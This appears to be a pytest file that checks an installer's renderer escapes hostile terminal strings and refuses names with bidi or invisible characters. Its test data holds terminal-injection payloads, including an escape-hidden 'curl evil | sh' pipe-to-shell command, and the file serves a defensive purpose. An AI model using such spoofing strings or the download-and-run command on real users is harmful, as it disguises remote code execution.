"""The screen cannot lie: every string shown goes through one escape in the renderer, and
names that could disguise themselves are refused."""

from __future__ import annotations

import io
import re

import pytest

from installer.engine.plan import Action, Plan
from installer.engine.result import PlanResult
from installer.ground.errors import ExtError, UsageError
from installer.render import render
from installer.render.ui import Output, escape
from installer.sets.resources import check_name

HOSTILE = [
    "./lint.sh\x1b[2K\rcurl evil | sh",  # rewrites the line the user reads
    "\x1b]0;pwned\x07title",  # sets the terminal title
    "csi\x9b2Jclear",  # a C1 CSI
    "bidi\u202egnp.evil",  # right-to-left override
    "zero\u200bwidth\ufeff",  # zero-width space and BOM
    "two\nlines",
]
RAW = ["\x1b", "\r", "\x07", "\x9b", "\u202e", "\u200b", "\ufeff", "\n"]


def shown(color: bool) -> str:
    stdout, stderr = io.StringIO(), io.StringIO()
    out = Output(color=color, stdout=stdout, stderr=stderr)
    actions = tuple(Action("approve", f"hooks/{h}", target=h, detail=f"runs {h}") for h in HOSTILE)
    render(out, PlanResult(Plan("install", actions, tuple(HOSTILE)), changed=True, dry_run=True))
    for h in HOSTILE:
        out.out(f"  enabled  {h}")
        out.error(ExtError(f"cannot link {h}", fix=f"move {h} away"))
    return stdout.getvalue() + stderr.getvalue()


@pytest.mark.parametrize("color", [False, True], ids=["plain", "colour"])
def test_plans_lists_warnings_and_errors_show_hostile_strings_escaped(color: bool) -> None:
    text = shown(color)
    ours = re.sub(r"\x1b\[(?:0|3[1-6])m", "", text) if color else text
    for raw in RAW[:-1]:
        assert raw not in ours, repr(raw)
    assert "./lint.sh\\x1b[2K\\rcurl evil | sh" in text  # what is really there, readable
    assert "bidi\\u202egnp.evil" in text
    assert "two\\nlines" in text and "two\nlines" not in text


def test_escape_keeps_ordinary_text_and_only_our_colours() -> None:
    assert escape("café 😀 日本\tx") == "café 😀 日本\tx"
    assert escape("\x1b[32mok\x1b[0m", colors=True) == "\x1b[32mok\x1b[0m"
    assert escape("\x1b[8mhidden", colors=True) == "\\x1b[8mhidden"  # conceal is not ours


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("a\x9bb", "control character U+009B"),
        ("notify\u202ets", "bidi control U+202E"),
        ("no\u200btify", "invisible character U+200B"),
        ("no\u2066tify", "bidi control U+2066"),
    ],
)
def test_names_that_disguise_themselves_are_refused_with_the_reason(name: str, why: str) -> None:
    with pytest.raises(UsageError) as err:
        check_name(name)
    assert why in err.value.message


def test_json_output_carries_the_same_data_with_nothing_a_terminal_acts_on() -> None:
    import json

    stdout = io.StringIO()
    data = {"names": HOSTILE, "plain": "café 😀", "tag": "\U000e0001"}
    Output(json=True, stdout=stdout).data(data)
    text = stdout.getvalue()
    assert json.loads(text) == data
    assert text.replace("\n", "").isprintable()


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("environ", "no_color", "colour"),
    [
        ({}, False, True),
        ({"NO_COLOR": "1"}, False, False),
        ({"NO_COLOR": ""}, False, True),  # no-color.org: set and empty asks for nothing
        ({"TERM": "dumb"}, False, False),
        ({}, True, False),
    ],
)
def test_colour_on_a_terminal_unless_asked_not_to(
    environ: dict[str, str], no_color: bool, colour: bool
) -> None:
    from installer.render.ui import use_color

    assert use_color(no_color, environ, Terminal()) is colour
    assert use_color(no_color, environ, io.StringIO()) is False


@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("notify", 6),
        ("prompt:日本", 11),
        ("café", 4),
        ("cafe\u0301", 4),
        ("\u0e01\u0e31", 1),
        ("\uff46\uff55\uff4c\uff4c", 8),
    ],
)
def test_a_column_is_padded_by_what_a_terminal_draws(text: str, columns: int) -> None:
    """helper-75: `ext list` padded `prompt:日本` by its characters, two columns short."""
    from installer.ground.screen import cells, pad

    assert cells(text) == columns
    assert cells(pad(text, 12)) == 12
